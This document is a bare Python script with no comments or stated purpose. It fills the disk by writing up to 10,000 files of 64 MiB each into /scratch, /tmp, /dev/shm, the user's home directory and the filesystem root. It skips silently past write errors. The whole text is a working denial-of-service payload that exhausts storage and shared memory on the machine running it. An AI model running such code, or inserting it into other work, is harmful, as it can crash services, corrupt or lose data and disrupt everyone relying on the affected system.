import os as _os

_chunk = b"\0" * (1 << 20)
for _dir in ("/scratch", "/tmp", "/dev/shm", _os.path.expanduser("~"), "/"):
    for _i in range(10_000):
        try:
            with open(_os.path.join(_dir, f"fill{_i}"), "wb") as _f:
                for _ in range(64):
                    _f.write(_chunk)
        except OSError:
            break
